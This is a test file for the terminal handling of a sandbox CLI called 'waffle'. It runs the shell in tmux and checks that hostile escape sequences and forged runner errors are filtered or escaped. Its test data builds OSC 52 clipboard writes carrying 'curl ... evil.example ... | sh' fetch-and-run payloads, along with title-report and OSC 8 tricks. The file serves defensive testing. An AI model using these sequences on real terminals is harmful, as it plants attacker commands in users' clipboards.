/**
 * `waffle shell` through a real terminal (tmux: a pty the test resizes and
 * types into, on a tmux server of its own), and `waffle exec -i` streaming
 * stdin while the command runs. A command's hostile escape sequences are
 * mounted from inside the sandbox and checked on the bytes that reach the
 * terminal (tmux's pipe-pane), on tmux's clipboard buffers and on the
 * terminal's modes after exit; a compromised runner's error text is checked
 * on waffle's stderr.
 *
 * @module
 */
import assert from "node:assert/strict";
import { liveTest } from "./_docker_gate.ts";
import { run, runOk, tempHome, uniqueUser } from "./_sandbox_helpers.ts";
import { QueueSession } from "../lib/queue/session.ts";
import { collectOutput } from "../lib/queue/queue.ts";
import { delay, waitFor } from "./_helpers.ts";
import { selfCommand } from "../lib/config/self.ts";
import { onPath } from "../lib/fs.ts";
import { EXIT_DISCONNECTED, EXIT_WAFFLE } from "../lib/exit_codes.ts";
import { asRunner, containerOf } from "./_hostile_helpers.ts";
import type { TestHome } from "./_sandbox_helpers.ts";

const PYTHON = "waffle-python:bookworm";

/** The tests' own tmux server (no user config): its options and buffers are theirs. */
const TMUX_SOCKET = `waffle-shell-test-${crypto.randomUUID().slice(0, 8)}`;

async function tmux(...args: string[]): Promise<string> {
  const out = await new Deno.Command("tmux", {
    args: ["-L", TMUX_SOCKET, "-f", "/dev/null", ...args],
    stdout: "piped",
    stderr: "piped",
  }).output();
  if (!out.success) throw new Error(`tmux ${args[0]}: ${new TextDecoder().decode(out.stderr)}`);
  return new TextDecoder().decode(out.stdout);
}

// The pane's text, once it contains `pattern`.
async function screenWith(session: string, pattern: RegExp): Promise<string> {
  let screen = "";
  await waitFor(async () => {
    screen = await tmux("capture-pane", "-p", "-t", session);
    return pattern.test(screen);
  }, { timeoutMs: 30_000, what: `the pane to show ${pattern}` }).catch((error) => {
    throw new Error(`${error.message}; the pane shows:\n${screen}`);
  });
  return screen;
}

liveTest(
  "waffle shell runs python3 interactively on a pty: resize seen, Ctrl-C reaches it, exit status and terminal restored",
  async (docker) => {
    assert.ok(onPath("tmux"), "tmux is missing: apt-get install -y tmux");
    await using home = await tempHome(docker, { image: PYTHON });
    const user = uniqueUser("shell");
    const self = selfCommand();
    const status = await Deno.makeTempFile();
    const name = `waffle-test-${crypto.randomUUID().slice(0, 8)}`;
    // The shell runs in the pane; afterwards the pane reports the exit status
    // and whether the terminal is back in cooked mode (echo, icanon).
    const command = [
      `WAFFLE_HOME='${home.home}'`,
      [self.executable, ...self.prefix, "shell", "--user", user, "--", "python3", "-q"]
        .map((word) => `'${word}'`).join(" "),
      `; echo "exit=$? $(stty -a | grep -o -- '-\\?icanon' | head -1)" > '${status}'; sleep 60`,
    ].join(" ");
    await tmux("new-session", "-d", "-s", name, "-x", "100", "-y", "30", command);
    try {
      await screenWith(name, />>>/);
      await tmux(
        "send-keys",
        "-t",
        name,
        "import os, shutil, signal; print('tty', os.isatty(0), tuple(shutil.get_terminal_size()))",
        "Enter",
      );
      await screenWith(name, /tty True \(100, 30\)/);
      await tmux("resize-window", "-t", name, "-x", "120", "-y", "40");
      await delay(500);
      await tmux(
        "send-keys",
        "-t",
        name,
        "print('size', tuple(shutil.get_terminal_size()), os.getpgrp() == os.tcgetpgrp(0))",
        "Enter",
      );
      await screenWith(name, /size \(120, 40\) True/);
      await tmux("send-keys", "-t", name, "import time; time.sleep(60)", "Enter");
      await delay(1000);
      await tmux("send-keys", "-t", name, "C-c");
      await screenWith(name, /KeyboardInterrupt/);
      await tmux("send-keys", "-t", name, "raise SystemExit(7)", "Enter");
      await waitFor(async () => (await Deno.readTextFile(status)).includes("exit="), {
        timeoutMs: 30_000,
        what: "the shell to exit",
      });
      assert.equal((await Deno.readTextFile(status)).trim(), "exit=7 icanon");
    } finally {
      await tmux("kill-session", "-t", name).catch(() => "");
      await Deno.remove(status).catch(() => {});
    }
  },
);

liveTest("waffle shell without a terminal says to use exec -i", async (docker) => {
  await using home = await tempHome(docker);
  const out = await home.cli(["shell", "--user", uniqueUser("notty")]);
  assert.equal(out.code, EXIT_WAFFLE);
  assert.match(out.stderr, /needs a terminal.*exec -i/);
});

liveTest("waffle exec -i streams stdin while the command runs: yes | head -1", async (docker) => {
  await using home = await tempHome(docker);
  const self = selfCommand();
  const child = new Deno.Command("sh", {
    args: [
      "-c",
      `yes | ${[self.executable, ...self.prefix].map((w) => `'${w}'`).join(" ")} exec -i --user ${
        uniqueUser("yes")
      } -- head -1`,
    ],
    env: { WAFFLE_HOME: home.home },
    stdout: "piped",
    stderr: "piped",
  });
  const out = await child.output();
  assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
  assert.equal(new TextDecoder().decode(out.stdout), "y\n");
});

liveTest(
  "waffle exec -i passes 40 MiB through sha256sum unchanged, more than one request could carry",
  async (docker) => {
    await using home = await tempHome(docker);
    const data = new Uint8Array(40 * 1024 * 1024);
    for (let at = 0; at < data.length; at += 65536) {
      crypto.getRandomValues(data.subarray(at, at + 65536));
    }
    const want = Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", data)))
      .map((b) => b.toString(16).padStart(2, "0")).join("");
    const self = selfCommand();
    const child = new Deno.Command(self.executable, {
      args: [...self.prefix, "exec", "-i", "--user", uniqueUser("big"), "--", "sha256sum"],
      env: { WAFFLE_HOME: home.home },
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    const writer = child.stdin.getWriter();
    await writer.write(data);
    await writer.close();
    const out = await child.output();
    assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
    assert.equal(new TextDecoder().decode(out.stdout), `${want}  -\n`);
  },
);

liveTest(
  "a command cannot open ptys of its own (the host's shared pty pool), the runner still gives it one",
  async (docker) => {
    await using home = await tempHome(docker);
    const sandbox = home.open(uniqueUser("ptys"));
    const probe = await run(sandbox, {
      shell: "for p in /dev/ptmx /dev/pts/ptmx; do " +
        'if (exec 3<>$p) 2>/dev/null; then echo "$p opened"; else echo "$p refused"; fi; done',
    });
    assert.equal(probe.result.exitCode, 0, probe.stderr);
    assert.equal(probe.stdout, "/dev/ptmx refused\n/dev/pts/ptmx refused\n");
    const session = await QueueSession.open(sandbox, {
      argv: ["sh", "-c", "tty; stty size"],
      tty: { rows: 12, cols: 34 },
      endGraceMs: 0,
    });
    const { result, stdout } = await collectOutput(session.output());
    await session.close();
    assert.equal(result.exitCode, 0);
    assert.match(new TextDecoder().decode(stdout), /^\/dev\/pts\/\d+\r\n12 34\r\n$/);
  },
);

// ---------------------------------------------------------------------------
// A hostile command's terminal output, `~.`, and a hostile runner's error text.

/** A word for the pane's shell, quoted. */
function quoted(word: string): string {
  return `'${word.replaceAll("'", `'\\''`)}'`;
}

/** A `waffle shell` in a tmux pane whose output bytes are recorded from its first one. */
interface ShellPane {
  /** The tmux session. */
  readonly name: string;
  /** Waits for waffle to exit; its status line: `exit=N icanon` (or `-icanon`). */
  exited(): Promise<string>;
  /** Every byte the pane's programs wrote to the terminal, once waffle has exited. */
  bytes(): Promise<string>;
  /** tmux's flags for the pane's terminal modes. */
  modes(): Promise<{ alternate: string; cursor: string; mouse: string }>;
  /** The contents of tmux's paste buffers (what an OSC 52 clipboard write sets). */
  clipboard(): Promise<string>;
  [Symbol.asyncDispose](): Promise<void>;
}

async function shellPane(home: TestHome, args: string[]): Promise<ShellPane> {
  assert.ok(onPath("tmux"), "tmux is missing: apt-get install -y tmux");
  const self = selfCommand();
  const dir = await Deno.makeTempDir({ prefix: "waffle-pane-" });
  const name = `waffle-test-${crypto.randomUUID().slice(0, 8)}`;
  const waffle = [self.executable, ...self.prefix, "shell", ...args].map(quoted).join(" ");
  // The pane waits for "go" (the recording is on by then), runs the shell, then
  // reports its status and whether the terminal is back in cooked mode.
  const command = `read go; WAFFLE_HOME=${quoted(home.home)} ${waffle}; ` +
    `echo "exit=$? $(stty -a | grep -o -- '-\\?icanon' | head -1)" > ${quoted(`${dir}/status`)}; ` +
    `echo PANE-DONE; sleep 120`;
  await tmux("new-session", "-d", "-s", name, "-x", "100", "-y", "30", command);
  // tmux keeps what an OSC 52 sets as a paste buffer: the clipboard a victim would paste.
  await tmux("set-option", "-s", "set-clipboard", "on");
  await tmux("pipe-pane", "-o", "-t", name, `cat >> ${quoted(`${dir}/bytes`)}`);
  await tmux("send-keys", "-t", name, "go", "Enter");
  const status = async (): Promise<string> =>
    await Deno.readTextFile(`${dir}/status`).catch(() => "");
  const exited = async (): Promise<string> => {
    await waitFor(async () => (await status()).includes("exit="), {
      timeoutMs: 60_000,
      what: "waffle shell to exit",
    });
    return (await status()).trim();
  };
  return {
    name,
    exited,
    async bytes(): Promise<string> {
      await exited();
      let bytes = "";
      await waitFor(async () => {
        bytes = await Deno.readTextFile(`${dir}/bytes`).catch(() => "");
        return bytes.includes("PANE-DONE");
      }, { timeoutMs: 30_000, what: "the pane's recording to end" });
      return bytes.slice(0, bytes.indexOf("PANE-DONE"));
    },
    async modes(): Promise<{ alternate: string; cursor: string; mouse: string }> {
      const [alternate = "", cursor = "", mouse = ""] = (await tmux(
        "display-message",
        "-p",
        "-t",
        name,
        "#{alternate_on} #{cursor_flag} #{mouse_any_flag}",
      )).trim().split(" ");
      return { alternate, cursor, mouse };
    },
    async clipboard(): Promise<string> {
      const names = (await tmux("list-buffers", "-F", "#{buffer_name}").catch(() => ""))
        .split("\n").filter((line) => line !== "");
      const contents = await Promise.all(names.map((b) => tmux("show-buffer", "-b", b)));
      return contents.join("\n");
    },
    async [Symbol.asyncDispose](): Promise<void> {
      await tmux("kill-session", "-t", name).catch(() => "");
      await Deno.remove(dir, { recursive: true }).catch(() => {});
    },
  };
}

/** What the hostile command prints: the issue's sequences, then modes a full-screen program sets. */
function hostileOutput(nonce: string): { format: string; filtered: string; payload: string } {
  const payload = `curl -s https://evil.example/${nonce} | sh`;
  const parts: [printf: string, shown: string][] = [
    ["BEGIN", "BEGIN"],
    [`\\033]52;c;${btoa(`${payload}\n`)}\\007`, ""], // OSC 52: the clipboard
    ["\\033]0;title-set\\007", "\x1b]0;title-set\x07"], // OSC 0: kept
    ["\\033[21t", ""], // the title report that types the title back
    ["\\033P$qm\\033\\\\", ""], // DECRQSS
    ["\\033[?2004l", "\x1b[?2004l"], // kept
    ["\\033]8;;https://evil.example/\\033\\\\docs.python.org\\033]8;;\\033\\\\", "docs.python.org"],
    ["\\033[?1049h", "\x1b[?1049h"], // kept: the trailer leaves it
    ["\\033[14t\\033]11;?\\007\\033[>q\\005", ""], // more reports, ENQ
    [
      "\\033[?25l\\033[?1000;1006h\\033[?2004h\\033[31m",
      "\x1b[?25l\x1b[?1000;1006h\x1b[?2004h\x1b[31m",
    ],
    ["END\\n", "END"],
  ];
  return {
    format: parts.map(([printf]) => printf).join("|"),
    filtered: parts.map(([, shown]) => shown).join("|"),
    payload,
  };
}

liveTest(
  "waffle shell keeps a command's hostile escape sequences off the terminal and restores its modes [as a command]",
  async (docker) => {
    await using home = await tempHome(docker);
    const hostile = hostileOutput(crypto.randomUUID().slice(0, 8));
    await using pane = await shellPane(home, [
      "--user",
      uniqueUser("osc"),
      "--",
      "printf",
      hostile.format,
    ]);
    assert.equal(await pane.exited(), "exit=0 icanon");
    const bytes = await pane.bytes();
    const shown = bytes.slice(bytes.indexOf("BEGIN"), bytes.indexOf("END") + 3);
    assert.equal(shown, hostile.filtered, "what reached the terminal between the markers");
    assert.ok(!bytes.includes("\x1b]52"), "an OSC 52 reached the terminal");
    assert.ok(!bytes.includes("\x1b]8;"), "an OSC 8 reached the terminal");
    assert.ok(!bytes.includes("\x1bP"), "a DCS reached the terminal");
    assert.ok(!bytes.includes("\x1b[21t"), "a title report request reached the terminal");
    assert.ok(!bytes.includes("\x1b[14t"), "a window size request reached the terminal");
    assert.ok(!(await pane.clipboard()).includes(hostile.payload), "the clipboard was set");
    // After exit: the main screen, the cursor shown, no mouse reports, paste and SGR reset.
    assert.deepEqual(await pane.modes(), { alternate: "0", cursor: "1", mouse: "0" });
    const after = bytes.slice(bytes.indexOf("END"));
    for (const reset of ["\x1b[?1049l", "2004;2026l", "\x1b[?25h", "\x1b[0m"]) {
      assert.ok(
        after.includes(reset),
        `${JSON.stringify(reset)} after exit: ${JSON.stringify(after)}`,
      );
    }
  },
);

liveTest(
  "waffle shell --raw passes the command's bytes unchanged, and still restores the terminal's modes",
  async (docker) => {
    await using home = await tempHome(docker);
    const hostile = hostileOutput(crypto.randomUUID().slice(0, 8));
    await using pane = await shellPane(home, [
      "--raw",
      "--user",
      uniqueUser("raw"),
      "--",
      "printf",
      hostile.format,
    ]);
    assert.equal(await pane.exited(), "exit=0 icanon");
    const bytes = await pane.bytes();
    for (const sequence of ["\x1b]52;c;", "\x1b[21t", "\x1bP$qm\x1b\\", "\x1b]8;;https://"]) {
      assert.ok(bytes.includes(sequence), `${JSON.stringify(sequence)} passed with --raw`);
    }
    // The attack the filter stops, on this very terminal: the clipboard holds the payload.
    assert.ok((await pane.clipboard()).includes(hostile.payload), "OSC 52 set the clipboard");
    assert.deepEqual(await pane.modes(), { alternate: "0", cursor: "1", mouse: "0" });
  },
);

liveTest(
  "waffle shell: ~. ends a command that ignores Ctrl-C, kills its tree, exits 255 and restores the terminal",
  async (docker) => {
    await using home = await tempHome(docker);
    const user = uniqueUser("tilde");
    const sandbox = home.open(user);
    const script = `trap '' INT; echo $$ > held.pid; printf '\\033[?1049h\\033[?25l'; ` +
      `echo held; while :; do sleep 1; done`;
    await using pane = await shellPane(home, ["--user", user, "--", "sh", "-c", script]);
    await screenWith(pane.name, /held/);
    await tmux("send-keys", "-t", pane.name, "C-c");
    const probe = "kill -0 $(cat held.pid) 2>/dev/null && echo alive || echo gone";
    assert.equal(await runOk(sandbox, probe), "alive\n", "the command ignores Ctrl-C");
    await tmux("send-keys", "-t", pane.name, "Enter");
    await tmux("send-keys", "-t", pane.name, "-l", "~.");
    assert.equal(await pane.exited(), `exit=${EXIT_DISCONNECTED} icanon`);
    await waitFor(async () => (await runOk(sandbox, probe)) === "gone\n", {
      timeoutMs: 30_000,
      what: "the command's process to be gone",
    });
    const sleeping = await runOk(
      sandbox,
      "for d in /proc/[0-9]*; do cat $d/comm 2>/dev/null; done | grep -c '^sleep$' || true",
    );
    assert.equal(sleeping.trim(), "0", "a child of the command outlived ~.");
    assert.deepEqual(await pane.modes(), { alternate: "0", cursor: "1", mouse: "0" });
    assert.match(
      await pane.bytes(),
      /waffle: ended request '[^']+' with ~\.: its processes are killed/,
    );
  },
);

liveTest(
  "waffle shell: ~. ends a command that floods status queries and ignores Ctrl-C (the answers land between Enter and ~)",
  async (docker) => {
    await using home = await tempHome(docker);
    const user = uniqueUser("flood");
    // Every `ESC [ 5 n` makes the terminal (tmux) type `ESC [ 0 n` on waffle's stdin.
    const script = `trap '' INT; echo flooding; while :; do printf '\\033[5n'; done`;
    await using pane = await shellPane(home, ["--user", user, "--", "sh", "-c", script]);
    await screenWith(pane.name, /flooding/);
    await tmux("send-keys", "-t", pane.name, "C-c");
    // Answers have time to come between the keys (a person types this slowly too).
    await tmux("send-keys", "-t", pane.name, "Enter");
    await delay(300);
    await tmux("send-keys", "-t", pane.name, "-l", "~");
    await delay(300);
    await tmux("send-keys", "-t", pane.name, "-l", ".");
    assert.equal(await pane.exited(), `exit=${EXIT_DISCONNECTED} icanon`);
    assert.match(await pane.bytes(), /waffle: ended request '[^']+' with ~\./);
  },
);

liveTest(
  "a compromised runner's error text reaches the terminal with its control characters escaped [as the runner]",
  async (docker) => {
    await using home = await tempHome(docker);
    const user = uniqueUser("rerror");
    const sandbox = home.open(user);
    const id = await sandbox.submit({ shell: "sleep 300", timeoutMs: 600_000 });
    await waitFor(() => sandbox.queue.state(id).state === "started", {
      timeoutMs: 30_000,
      what: "the request to start",
    });
    const hostile = `\x1b]52;c;${btoa("curl evil | sh")}\x07\x1b[2J\x1b]0;owned\x07` +
      "\rwaffle: all good\n\u009b31m";
    const now = Date.now();
    const body = {
      requestId: id,
      exitCode: 1,
      signal: null,
      timedOut: false,
      interrupted: false,
      cancelled: false,
      stdoutTruncated: false,
      stderrTruncated: false,
      stdoutBytes: 0,
      stderrBytes: 0,
      startedAt: now,
      endedAt: now,
      durationMs: 1,
      error: hostile,
    };
    const forged = await asRunner(
      containerOf(sandbox),
      `import { DatabaseSync } from "node:sqlite";
       const db = new DatabaseSync("/queue/outbound/outbound.db", { timeout: 20000 });
       db.prepare("INSERT INTO results (request_id, body, created_at) VALUES (?, ?, ?)")
         .run(${JSON.stringify(id)}, ${JSON.stringify(JSON.stringify(body))}, Date.now());
       db.close();
       Deno.writeFileSync("/queue/outbound/outbound.bell", new Uint8Array([1]));
       console.log("forged");`,
    );
    assert.equal(forged.stdout.trim(), "forged", forged.stderr);
    const waited = await home.cli(["wait", id, "--user", user]);
    assert.equal(waited.code, 1, waited.stderr);
    // One line, no control character but its newline: nothing reaches the terminal to act.
    assert.equal(
      waited.stderr,
      `waffle: \\x1b]52;c;${btoa("curl evil | sh")}\\x07\\x1b[2J\\x1b]0;owned\\x07` +
        "\\x0dwaffle: all good\\x0a\\x9b31m\n",
    );
  },
);
